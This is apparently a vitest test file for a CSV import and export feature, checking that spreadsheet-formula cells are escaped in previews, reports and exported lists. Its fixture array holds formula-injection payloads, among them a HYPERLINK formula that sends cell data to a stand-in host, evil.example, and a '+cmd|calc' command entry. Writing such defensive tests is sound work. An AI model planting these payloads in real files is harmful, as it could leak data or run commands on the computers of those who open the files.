import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { AccountAccess } from '../../../src/contract';
import { applied, csvFile, previewOf } from '../../support/engine/importing';
import { startStaffed } from '../../support/engine/staffed';

const FORMULAS = ['=HYPERLINK("http://evil.example?"&A1;"Open")', '+cmd|calc', '-2+3', '@SUM(A1)', "'=1+1"];

const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
const file = (names: readonly string[]) =>
  csvFile(
    ['email,name,role', ...names.map((name, index) => `f${index}@acme.example,${quoted(name)},user`)].join(
      '\n',
    ),
  );

async function textOf(stream: AsyncIterable<{ text: string }>): Promise<string> {
  let text = '';
  for await (const piece of stream) text += piece.text;
  return text;
}

describe('a cell that a spreadsheet would calculate', () => {
  it('is harmless in the preview, the report and the list that is exported', async () => {
    const { add } = await startStaffed();
    const ada = await add('ada.b@acme.example', 'tenant-admin');
    const looked = await previewOf(ada, file(FORMULAS.map((name) => `'${name}`)));
    const report = await applied(ada, looked);
    const list = await textOf(await ada.call('people.exportList', { format: 'csv' }));
    for (const csv of [looked.preview.csv, report.csv, list]) {
      const cells = Papa.parse<string[]>(csv).data.flat();
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
      expect(cells).toEqual(expect.arrayContaining(FORMULAS.map((name) => `'${name}`)));
    }
  });

  it('comes back from an exported list as it was, so that nothing is to be done', async () => {
    const { add } = await startStaffed();
    const ada = await add('ada.b@acme.example', 'tenant-admin');
    await applied(ada, await previewOf(ada, file(FORMULAS.map((name) => `'${name}`))));
    const people = await ada.call<AccountAccess[]>('access.people');
    const kept = people.filter(({ email }) => email.startsWith('f')).map(({ name }) => name);
    expect(kept.sort()).toEqual([...FORMULAS].sort());
    const list = await textOf(await ada.call('people.exportList', { format: 'csv' }));
    const again = await previewOf(ada, csvFile(list));
    expect(again.preview.counts).toEqual({ new: 0, changed: 0, unchanged: people.length, error: 0 });
  });
});
